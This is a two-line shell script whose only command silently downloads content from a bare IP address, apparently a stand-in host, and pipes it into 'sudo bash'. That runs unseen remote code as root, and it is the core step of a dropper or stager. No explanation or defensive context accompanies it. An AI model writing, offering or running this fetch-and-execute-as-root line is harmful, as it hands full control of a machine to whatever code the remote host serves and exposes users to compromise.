#!/bin/sh
wget -qO- https://203.0.113.9/x | sudo bash
